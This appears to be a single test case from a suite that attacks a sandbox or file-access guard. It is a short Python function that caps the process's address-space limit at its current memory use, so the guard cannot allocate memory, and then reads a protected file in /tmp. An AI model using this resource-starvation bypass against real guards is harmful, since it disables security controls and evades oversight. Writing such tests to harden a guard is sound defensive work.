# class: switch_off
# rule: read_write_tmp
# success: a file in /tmp is read while the guard can get no memory
# proof: read
import os
import resource

from attack import FILE, attempt


@attempt
def steal():
    with open("/proc/self/statm") as opened:
        used = int(opened.read().split()[0]) * 4096
    resource.setrlimit(resource.RLIMIT_AS, (used, resource.getrlimit(resource.RLIMIT_AS)[1]))
    try:
        return os.read(os.open(FILE, os.O_RDONLY), 100)
    finally:
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)
